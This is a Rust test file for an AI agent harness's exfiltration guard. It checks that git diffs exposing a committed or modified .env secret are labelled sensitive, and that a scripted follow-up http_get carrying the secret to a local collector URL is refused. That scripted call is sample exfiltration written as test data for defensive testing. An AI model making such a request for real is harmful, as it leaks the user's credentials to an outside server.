//! A secret that git returns as a diff is labelled though no argument names
//! it (`git_show HEAD` of the commit that added `.env`, `git_diff` while a
//! tracked `.env` is modified). The result is labelled by the diff headers
//! it carries, so the network call after it is held.

use crate::support::cassette::{answer_turn, call_turn};
use crate::support::events::{find, label, labels};
use crate::support::guard::{SECRET, cassette, collector, project};
use crate::support::{git::git, guard::run_full_auto};
use crate::*;
use serde_json::json;

/// `tool` with `args` in a repository whose first commit added `.env`
/// (after `prepare`), then `http_get` carrying the secret: the result must
/// show the secret, be labelled sensitive by its diff, and the send held.
fn diff_then_send(tool: &str, args: serde_json::Value, prepare: impl FnOnce(&Sandbox)) {
    let server = collector();
    let sb = project(
        server.port,
        "\n[plugins.git]\nsource = \"builtin:git\"\n\
         grants.exec = [{ program = \"git\", args = [\"**\"] }]\n",
    );
    git(&sb.ws(), &["init", "-q"]);
    git(&sb.ws(), &["add", ".env", "notes.txt"]);
    git(&sb.ws(), &["commit", "-q", "-m", "init"]);
    prepare(&sb);
    let port = server.port;
    cassette(
        &sb,
        &[
            call_turn("c1", tool, args),
            call_turn(
                "c2",
                "http_get",
                json!({"url": format!("http://127.0.0.1:{port}/collect?k={SECRET}")}),
            ),
            answer_turn("Done."),
        ],
    );
    let events = run_full_auto(&Cli::new(), &sb);
    let shown = find(&events, "tool_call_end", "c1");
    assert_eq!(shown["outcome"]["is_error"], false, "{shown}");
    assert!(
        shown["outcome"]["content"]
            .as_str()
            .is_some_and(|c| c.contains(SECRET)),
        "git did not show the secret: {shown}"
    );
    assert_eq!(
        labels(shown),
        vec![label(
            "sensitive",
            &format!("`{tool}` output shows a diff of `.env`")
        )]
    );
    let permission = find(&events, "permission", "c2");
    assert_eq!(permission["decision"], "refused", "{permission}");
    assert!(
        permission["reason"]
            .as_str()
            .is_some_and(|r| r.contains("exfiltration guard") && r.contains(".env")),
        "{permission}"
    );
    assert_eq!(
        server.requests().len(),
        0,
        "the collector received a request"
    );
}

#[test]
fn a_commit_that_added_env_shown_by_git_is_sensitive() {
    diff_then_send("git_show", json!({"rev": "HEAD"}), |sb| {
        // Only git's objects hold it now.
        std::fs::remove_file(sb.ws().join(".env")).expect("rm .env");
    });
}

#[test]
fn a_modified_tracked_env_in_git_diff_is_sensitive() {
    diff_then_send("git_diff", json!({}), |sb| {
        sb.write(".env", &format!("API_KEY={SECRET}\nOTHER={SECRET}2\n"));
    });
}
